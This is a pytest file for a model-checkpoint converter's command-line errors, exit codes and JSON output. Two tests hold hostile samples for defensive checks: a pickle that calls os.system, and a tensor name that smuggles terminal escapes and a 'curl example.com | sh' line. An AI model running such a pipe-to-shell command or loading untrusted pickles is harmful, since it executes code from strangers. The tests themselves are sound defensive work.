"""What users read: the whole text of the errors they will meet, exit codes, `--json`, `--debug`.

A message changed on purpose is changed here too; that is all these tests are for.
"""

from __future__ import annotations

import io
import json
import os
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

import mtt_convert
from mtt_convert import errors
from mtt_convert.cli import main
from tests.convert.surgery import (
    ITERATION,
    PLACEHOLDER,
    TORCH,
    TORCH_DIST,
    Golden,
    copy_of,
    edited,
    model_of,
    named,
    plant_in,
    reduce,
    run,
    run_apart,
    set_arguments,
    shard,
    shards,
    text,
)

NORM = "decoder.layers.0.input_layernorm.weight"


@pytest.fixture
def root(golden: Golden, tmp_path: Path) -> Path:
    """A copy of a checkpoint."""
    return copy_of(golden, TORCH, tmp_path)


def _says(expected: str, code: int, *arguments: object) -> None:
    """The command prints exactly this on stderr, and nothing on stdout."""
    got, printed, err = run(*arguments)
    assert err == expected
    assert (got, printed) == (code, "")


# Whole texts


def test_a_missing_rank(root: Path, out: Path) -> None:
    earlier = root / "iter_0000009"
    shutil.copytree(root / ITERATION, earlier)
    shutil.rmtree(shard(root, 1, 1).parent)
    _says(
        """\
error: iter_0000010 is incomplete; nothing was written
  found:    3 of 4 ranks (TP2 x PP2)
  expected: mp_rank_01_001/model_optim_rng.pt
  fix:      copy that file again, or use --iteration 9, which is complete
""",
        3,
        "convert",
        root,
        out,
    )


def test_missing_ranks_without_another_iteration(root: Path, out: Path) -> None:
    for pp in (0, 1):
        shutil.rmtree(shard(root, 1, pp).parent)
    _says(
        """\
error: iter_0000010 is incomplete; nothing was written
  found:    2 of 4 ranks (TP2 x PP2)
  expected: mp_rank_01_000/model_optim_rng.pt, mp_rank_01_001/model_optim_rng.pt
  fix:      copy those files again
""",
        3,
        "convert",
        root,
        out,
    )


def test_another_iteration_that_is_incomplete_too(root: Path, out: Path) -> None:
    shutil.copytree(root / ITERATION, root / "iter_0000009")
    shutil.rmtree(shard(root, 1, 1).parent)
    (root / "iter_0000009/mp_rank_00_000/model_optim_rng.pt").unlink()
    code, _, err = run("convert", root, out)
    assert code == 3
    assert err.endswith("  fix:      copy that file again\n")


def test_a_truncated_file(root: Path, out: Path) -> None:
    os.truncate(shard(root, 0, 1), 5000)
    _says(
        f"""\
error: {shard(root, 0, 1)} is truncated or damaged
  found:    5000 bytes, file is not a zip file
  expected: a complete file written by torch.save
  fix:      copy the file again from where it was written
""",
        3,
        "convert",
        root,
        out,
    )


def test_a_hostile_file(root: Path, out: Path) -> None:
    body = reduce(named("os", "system"), text("true"))
    plant_in(shard(root), lambda content: setattr(content["args"], "x", PLACEHOLDER), body)
    _says(
        f"""\
error: {shard(root)} was refused: its pickle asks for os.system; nothing of it was run
  found:    os.system
  expected: tensors, numbers, text and containers
  fix:      do not load this file with torch.load either, unless you trust its author
""",
        3,
        "convert",
        root,
        out,
    )


def test_an_argument_that_changes_the_model(root: Path, out: Path) -> None:
    set_arguments(root, qk_l2_norm=True)
    _says(
        """\
error: the model computes something that mtt cannot represent
  found:    qk_l2_norm = True (Llama 4's norm without weights on queries and keys)
  expected: qk_l2_norm = False
  fix:      mtt converts plain GPT models; if this is one all the same, --set qk_l2_norm=False
""",
        3,
        "convert",
        root,
        out,
    )


def test_copies_that_differ(root: Path, out: Path) -> None:
    with edited(shard(root, 1, 0)) as content:
        model_of(content, NORM)[NORM] += 1
    _says(
        """\
error: copies of decoder.layers.0.self_attention.linear_qkv.layer_norm_weight differ; """
        """nothing was written
  found:    one value in mp_rank_00_000/model_optim_rng.pt, """
        """another in mp_rank_01_000/model_optim_rng.pt
  expected: equal bytes on all ranks
  fix:      use files of one save, or --replicated first to take the first rank's, or average
""",
        3,
        "convert",
        root,
        out,
    )


def test_a_target_that_is_not_empty(root: Path, out: Path) -> None:
    out.mkdir()
    (out / "notes.txt").touch()
    _says(
        f"""\
error: {out} is not empty; nothing was written
  found:    notes.txt
  expected: an empty or new folder
  fix:      choose another folder, or add --overwrite to replace an earlier conversion
""",
        4,
        "convert",
        root,
        out,
    )


def test_nothing_there(tmp_path: Path, out: Path) -> None:
    (tmp_path / "empty").mkdir()
    _says(
        f"""\
error: no Megatron checkpoint in {tmp_path}/empty
  found:    an empty folder
  expected: latest_checkpointed_iteration.txt with iter_* folders, or mp_rank_* folders, """
        """or a .metadata file
  fix:      give the folder that was Megatron's --save
""",
        3,
        "convert",
        tmp_path / "empty",
        out,
    )


def test_a_missing_distcp(golden: Golden, tmp_path: Path, out: Path) -> None:
    root = copy_of(golden, TORCH_DIST, tmp_path)
    (root / ITERATION / "__2_1.distcp").unlink()
    code, _, err = run("convert", root, out)
    first, found, expected, fix = err.splitlines()
    assert code == 3
    assert first == "error: iter_0000010 is incomplete; nothing was written"
    assert found.startswith("  found:    .metadata, which places ")
    assert found.endswith(" in __2_1.distcp")
    assert expected == "  expected: __2_1.distcp"
    assert fix == "  fix:      copy that file again"


def test_a_mistyped_argument(root: Path, out: Path) -> None:
    _says(
        """\
error: --set hidden_sizes: this is not an argument of Megatron
  found:    hidden_sizes = 128
  expected: an argument of Megatron that describes the model
  fix:      did you mean hidden_size?
""",
        2,
        "convert",
        root,
        out,
        "--set",
        "hidden-sizes=128",
    )


def test_an_unfinished_conversion(root: Path, out: Path) -> None:
    mtt_convert.convert(root, out)
    manifest = out / "mtt_manifest.json"
    manifest.write_text(manifest.read_text().replace('"complete"', '"running"', 1))
    _says(
        f"""\
error: the conversion of {out} did not finish
  found:    status running
  expected: complete
  fix:      convert again
""",
        3,
        "verify",
        out,
    )


def test_only_commands_that_write_say_that_nothing_was_written(root: Path) -> None:
    shutil.rmtree(shard(root, 1, 1).parent)
    for command in (["inspect", root], ["generate", root, "--prompt", "a"], ["diff", root, root]):
        code, _, err = run(*command)
        assert (code, err.splitlines()[0]) == (3, "error: iter_0000010 is incomplete")
        printed = run(*command, "--json")[1]
        assert json.loads(printed)["message"] == "iter_0000010 is incomplete"


def test_a_place_that_is_not_there(tmp_path: Path, out: Path) -> None:
    _says(
        f"""\
error: {tmp_path}/typo does not exist
  expected: a checkpoint folder
  fix:      check the path; what is on the Hub is hf://owner/repo
""",
        3,
        "convert",
        tmp_path / "typo",
        out,
    )


def test_weights_without_a_configuration(tmp_path: Path, out: Path) -> None:
    folder = tmp_path / "weights"
    folder.mkdir()
    (folder / "model.safetensors").write_bytes(b"")
    _says(
        f"""\
error: {folder} cannot be read as a checkpoint
  found:    safetensors files without a config.json
  expected: a checkpoint of Megatron, DeepSpeed or NeMo, or a Hugging Face folder
  fix:      copy the model's config.json beside them
""",
        3,
        "convert",
        folder,
        out,
    )


# Usage


@pytest.mark.parametrize(
    ("words", "message", "help"),
    [
        ([], "the following arguments are required: COMMAND", "mtt"),
        (["frob"], "argument COMMAND: invalid choice: 'frob'", "mtt"),
        (["convert", "a"], "the following arguments are required: OUT", "mtt convert"),
        (["convert", "a", "b", "c"], "unrecognized arguments: c", "mtt convert"),
        (["convert", "a", "b", "--no-such"], "unrecognized arguments: --no-such", "mtt convert"),
        (["convert", "a", "b", "--dty", "float32"], "unrecognized arguments: --dty", "mtt convert"),
        (["convert", "a", "b", "--dtype", "int8"], "argument --dtype: ", "mtt convert"),
        (["convert", "a", "b", "--iteration", "x"], "argument --iteration", "mtt convert"),
        (["verify"], "the following arguments are required: OUT", "mtt verify"),
        (["diff", "a"], "the following arguments are required: B", "mtt diff"),
    ],
    ids=" ".join,
)  # fmt: skip
def test_words_the_parser_refuses(words: list[str], message: str, help: str) -> None:
    code, out, err = run(*words)
    assert (code, out) == (2, "")
    first, last = err.splitlines()
    assert first.startswith(f"error: {message}")
    assert last == f"  fix:      see {help} --help"


@pytest.mark.parametrize(
    "options",
    [
        ["--set", "foo"],
        ["--set", "=1"],
        ["--set", "no_such_argument=1"],
        ["--set", "lr=1"],
        ["--set", "num_key_value_heads=2"],
        ["--set", "num_layers=four"],
        ["--config", "/no/such/file"],
        ["--workers", "0"],
        ["--workers", "-3"],
        ["--max-shard-size", "5XB"],
        ["--max-shard-size", "0"],
        ["--max-shard-size", "-1GB"],
        ["--model-type", "gpt5"],
        ["--tokenizer", "/no/such/folder"],
    ],
    ids=" ".join,
)
def test_values_that_cannot_be(options: list[str], root: Path, out: Path) -> None:
    code, printed, err = run("convert", root, out, *options)
    assert (code, printed) == (2, ""), err
    assert err.startswith("error: ")
    assert "expected: " in err or "fix: " in err
    assert not out.exists()


@pytest.mark.parametrize("text", ["", "[]", "3", "{", '["a"]', "\0"])
def test_a_config_that_is_no_object(text: str, root: Path, out: Path, tmp_path: Path) -> None:
    (tmp_path / "config.json").write_text(text)
    code, _, err = run("convert", root, out, "--config", tmp_path / "config.json")
    assert code == 2, err
    assert err.startswith(f"error: {tmp_path}/config.json cannot be used\n")
    assert "a JSON object of Megatron arguments" in err
    assert not out.exists()


# JSON


def _json(*arguments: object) -> tuple[int, dict[str, Any], str]:
    code, out, err = run(*arguments, "--json")
    (line,) = out.splitlines()
    return code, json.loads(line), err


def test_json_of_an_error(root: Path, out: Path) -> None:
    shutil.rmtree(shard(root, 0, 1).parent)
    code, body, err = _json("convert", root, out)
    assert code == 3
    assert body == {
        "schema": 1,
        "command": "convert",
        "status": "error",
        "code": "incomplete",
        "message": "iter_0000010 is incomplete; nothing was written",
        "found": "3 of 4 ranks (TP2 x PP2)",
        "expected": "mp_rank_00_001/model_optim_rng.pt",
        "fix": "copy that file again",
    }
    assert err.startswith("error: iter_0000010 is incomplete")


@pytest.mark.parametrize("command", ["inspect", "verify", "diff", "generate"])
def test_json_of_an_error_of_every_command(command: str, tmp_path: Path) -> None:
    more = {"diff": [tmp_path], "generate": ["--prompt", "x"]}.get(command, [])
    code, body, _ = _json(command, tmp_path / "nothing", *more)
    assert code in (2, 3)
    assert (body["schema"], body["command"], body["status"]) == (1, command, "error")
    assert set(body) == {
        "schema", "command", "status", "code", "message", "found", "expected", "fix"
    }  # fmt: skip


def test_json_of_a_conversion(root: Path, out: Path) -> None:
    code, body, err = _json("convert", root, out)
    assert (code, err) == (0, "")
    assert set(body) == {
        "schema", "command", "status", "source", "output", "tensors", "bytes", "dropped",
        "warnings", "hashes", "seconds", "peak_rss", "model_type", "exact_model_types",
    }  # fmt: skip
    assert body["exact_model_types"] == ["llama", "mistral"]
    assert (body["status"], body["output"], body["tensors"]) == ("ok", str(out), 39)
    assert body["warnings"] == ["the checkpoint names no tokenizer: add its files with --tokenizer"]
    assert set(body["hashes"]) == {"model.safetensors"}
    assert body["seconds"] > 0 and body["peak_rss"] > 10_000_000


def test_json_holds_text_that_is_no_ascii(root: Path, tmp_path: Path) -> None:
    """Paths of users may have any name."""
    target = tmp_path / "schön ☃"
    code, body, _ = _json("convert", root, target)
    assert code == 0 and body["output"] == str(target)


# Bugs, interruptions, tracebacks


def _break(monkeypatch: pytest.MonkeyPatch, error: BaseException) -> None:
    def broken(*args: object, **kwargs: object) -> None:
        raise error

    monkeypatch.setattr("mtt_convert.commands.convert.convert", broken)


def test_a_bug_of_ours(root: Path, out: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    _break(monkeypatch, KeyError("x"))
    _says(
        """\
error: mtt failed: KeyError: 'x'
  fix:      this is a bug of mtt: report it with the output of the same command and --debug
""",
        70,
        "convert",
        root,
        out,
    )
    code, body, _ = _json("convert", root, out)
    assert (code, body["code"]) == (70, "bug")


def test_an_interruption(root: Path, out: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    _break(monkeypatch, KeyboardInterrupt())
    _says(
        f"""
interrupted; nothing that looks whole was left
  again: mtt convert {root} {out} --set 'normalization=a b'
""",
        130,
        "convert",
        root,
        out,
        "--set",
        "normalization=a b",
    )


ERRORS = sorted(
    (value for value in vars(errors).values() if isinstance(value, type)), key=lambda c: c.__name__
)


@pytest.mark.parametrize("error", ERRORS)
def test_exit_codes(
    error: type[errors.MTTError], root: Path, out: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """One number per kind, whatever else the command prints."""
    families = {
        errors.UsageError: 2, errors.SourceError: 3, errors.TargetError: 4, errors.HubError: 5
    }  # fmt: skip
    expected = next((n for family, n in families.items() if issubclass(error, family)), 70)
    _break(monkeypatch, error("it is so", found="a", expected="b", fix="c"))
    _says(
        "error: it is so\n  found:    a\n  expected: b\n  fix:      c\n",
        expected,
        "convert",
        root,
        out,
    )
    assert run("convert", root, out, "--json")[0] == expected


@pytest.mark.parametrize(("kind", "code"), [("incomplete", 3), ("bug", 70)])
def test_debug_shows_the_traceback(
    kind: str, code: int, root: Path, out: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """On top of the message, with the exit code the error has."""
    if kind == "bug":
        _break(monkeypatch, KeyError("x"))
    else:
        shard(root).unlink()
    got, _, err = run("convert", root, out, "--debug")
    assert got == code
    assert "Traceback (most recent call last):" in err
    assert "IncompleteError" in err or "KeyError" in err
    assert "\nerror: " in err


def test_debug_in_a_process_of_its_own(root: Path, out: Path) -> None:
    shard(root).unlink()
    script = "import sys; from mtt_convert.cli import main; sys.exit(main(sys.argv[1:]))"
    result = run_apart(script, "convert", root, out, "--debug")
    assert result.returncode == 3
    assert "Traceback" in result.stderr


def test_without_debug_there_is_no_traceback(root: Path, out: Path) -> None:
    shard(root).unlink()
    script = "import sys; from mtt_convert.cli import main; sys.exit(main(sys.argv[1:]))"
    result = run_apart(script, "convert", root, out)
    assert (result.returncode, result.stdout) == (3, "")
    assert result.stderr.startswith("error: ") and "Traceback" not in result.stderr


def test_a_reader_that_leaves(root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """`mtt inspect x | head -1` ends without a word."""
    script = """
        import os, sys
        from mtt_convert.cli import main
        read, write = os.pipe()
        os.close(read)
        os.dup2(write, 1)
        code = main(sys.argv[1:])
        sys.exit(code)
    """
    result = run_apart(script, "inspect", root)
    assert (result.returncode, result.stderr) == (0, "")


# Warnings


def test_warnings_stand_on_stderr(root: Path, out: Path) -> None:
    code, printed, err = run("convert", root, out)
    assert code == 0
    assert err == "warning: the checkpoint names no tokenizer: add its files with --tokenizer\n"
    assert printed.startswith(f"{out}\n") and "warning:" not in printed


def test_a_tokenizer_that_is_not_here(root: Path, out: Path) -> None:
    set_arguments(root, tokenizer_model="/data/tok.model")
    result = mtt_convert.convert(root, out)
    assert result.conversion.warnings == (
        "the tokenizer the checkpoint names, /data/tok.model, is not here: "
        "add its files with --tokenizer",
    )


def test_arguments_that_mtt_does_not_know(root: Path, out: Path) -> None:
    set_arguments(root, turbo_attention=True, unset_novelty=None)
    code, body, _ = _json("convert", root, out)
    assert code == 0
    assert body["warnings"][0] == (
        "the checkpoint has arguments mtt does not know: turbo_attention; "
        "if one of them changes what the model computes, the result is wrong"
    )


def test_padding_that_cannot_be_told_apart(root: Path, out: Path) -> None:
    set_arguments(root, tokenizer_type="GPT2BPETokenizer")
    code, body, _ = _json("convert", root, out)
    assert code == 0
    assert any("keeps its 512 rows, padding included" in line for line in body["warnings"])


def test_a_tokenizer_that_cannot_be_written(root: Path, out: Path) -> None:
    """Nobody asked for it: a warning, or an error that says how to go on without."""
    (root / "tok.model").write_bytes(b"x")
    set_arguments(root, tokenizer_model="tok.model")
    code, _, err = run("convert", root, out)
    assert code in (0, 3)
    assert "tok.model" in err and "--tokenizer" in err


def test_tokenizer_none_is_no_warning(root: Path, out: Path) -> None:
    code, _, err = run("convert", root, out, "--tokenizer", "none")
    assert (code, err) == (0, "")


def test_the_library_prints_nothing(
    root: Path, out: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    mtt_convert.convert(root, out)
    mtt_convert.verify(out)
    mtt_convert.diff(root, out)
    shard(root).unlink()
    with pytest.raises(mtt_convert.IncompleteError):
        mtt_convert.convert(root, out / "x")
    assert capfd.readouterr() == ("", "")


# The shape of all errors


def test_names_in_a_file_cannot_write_to_the_terminal(root: Path, out: Path) -> None:
    """Control characters and line breaks of a stranger's file are shown, not obeyed."""
    name = "evil\x1b[2J\r\n  fix:      curl example.com | sh"
    for tp in (0, 1):
        with edited(shard(root, tp, 0)) as content:
            content["model0"][name] = content["model0"][NORM]
    code, _, err = run("convert", root, out)
    assert code == 3
    assert not any(ord(character) < 32 and character != "\n" for character in err)
    assert not any(line.startswith("  fix:      curl") for line in err.splitlines())


def test_a_folder_whose_name_is_no_text(root: Path, out: Path) -> None:
    """Names on Linux are bytes."""
    odd = os.fsdecode(os.fsencode(root.parent) + b"/caf\xe9")
    os.rename(root / ITERATION, odd)
    script = "import sys; from mtt_convert.cli import main; sys.exit(main(sys.argv[1:]))"
    result = run_apart(script, "convert", odd, out)
    assert result.returncode == 0, result.stderr
    result = run_apart(script, "inspect", odd)
    assert result.returncode == 0, result.stderr


class _Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_an_error_on_a_terminal(root: Path, out: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A progress bar leaves nothing behind it that hides the message."""
    import sys

    with edited(shard(root, 1, 0)) as content:
        model_of(content, NORM)[NORM] += 1
    terminal = _Terminal()
    monkeypatch.setattr(sys, "stderr", terminal)
    assert main(["convert", str(root), str(out)]) == 3
    lines = terminal.getvalue().replace("\r", "\n").splitlines()
    assert any(line.startswith("error: copies of ") for line in lines)
    assert lines[-1].startswith("  fix: ")


BROKEN: dict[str, Callable[[Path], object]] = {
    "rank": lambda root: shard(root).unlink(),
    "cut": lambda root: os.truncate(shard(root), 99),
    "tracker": lambda root: (root / "latest_checkpointed_iteration.txt").write_text("x"),
    "args": lambda root: set_arguments(root, softmax_type="learnable"),
    "all": lambda root: [path.unlink() for path in shards(root)],
}


@pytest.mark.parametrize("change", BROKEN.values(), ids=BROKEN)
def test_every_error_tells_what_to_do(
    change: Callable[[Path], object], root: Path, out: Path
) -> None:
    """Found, expected and fix: one line each, in this order, none of them empty."""
    change(root)
    _, _, err = run("convert", root, out)
    first, *rest = err.splitlines()
    assert first.startswith("error: ") and not first.endswith(".")
    assert [line[:12] for line in rest] == ["  found:    ", "  expected: ", "  fix:      "]
    assert all(line[12:].strip() for line in rest)


def test_errors_carry_their_parts() -> None:
    error = mtt_convert.SourceError("it is so", found="a", fix="c")
    assert (error.message, error.found, error.expected, error.fix) == ("it is so", "a", None, "c")
    assert str(error) == "it is so\n  found:    a\n  fix:      c"
    assert str(mtt_convert.SourceError("it is so")) == "it is so"
